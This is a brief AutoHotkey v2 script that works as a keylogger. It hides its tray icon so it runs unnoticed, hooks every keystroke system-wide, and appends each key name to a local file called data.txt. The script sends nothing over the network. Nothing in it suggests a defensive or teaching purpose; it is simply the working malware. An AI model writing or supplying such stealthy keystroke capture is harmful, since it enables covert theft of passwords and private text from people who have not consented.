#Requires AutoHotkey v2.0
#NoTrayIcon
hook := InputHook("V I1")
hook.KeyOpt("{All}", "N")
hook.OnKeyDown := KeyPressed
hook.Start()
logFile := A_ScriptDir "\data.txt"
KeyPressed(ih, vk, sc) {
    global logFile
    f := FileOpen(logFile, "a")
    f.Write(GetKeyName(Format("vk{:x}sc{:x}", vk, sc)))
    f.Close()
}
